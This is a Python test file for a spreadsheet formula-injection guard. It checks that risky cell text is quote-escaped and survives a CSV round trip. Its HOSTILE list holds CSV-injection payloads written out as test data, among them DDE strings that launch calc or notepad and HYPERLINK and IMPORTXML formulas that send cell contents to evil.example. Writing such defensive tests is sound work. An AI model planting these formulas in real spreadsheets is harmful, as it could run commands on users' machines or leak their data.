import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tasks.core.spreadsheet import guarded, unguarded

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\ufe631+1",
    "'=1+1",
]
HARMLESS = ["", "It is 1 + 1 = 2.", "a=b", "1-2", "me@example.com", "It's here.", "say: =1", "  indented"]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_what_a_spreadsheet_could_run_is_text_in_its_cell_and_read_as_it_was(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(f"'{text}") == text


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert guarded(text) == unguarded(text) == text


@pytest.mark.parametrize("value", [-1, -0.5, None, True])
def test_numbers_are_no_formulas(value: object) -> None:
    assert guarded(value) is value


@given(st.text())
def test_every_text_comes_back_from_its_cell(text: str) -> None:
    assert unguarded(str(guarded(text))) == text


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=3))
def test_no_text_breaks_out_of_its_cell(texts: list[str]) -> None:
    sink = StringIO(newline="")
    csv.writer(sink, lineterminator="\r\n").writerow([guarded(text) for text in texts])
    (row,) = csv.reader(StringIO(sink.getvalue(), newline=""))
    assert [unguarded(cell) for cell in row] == texts
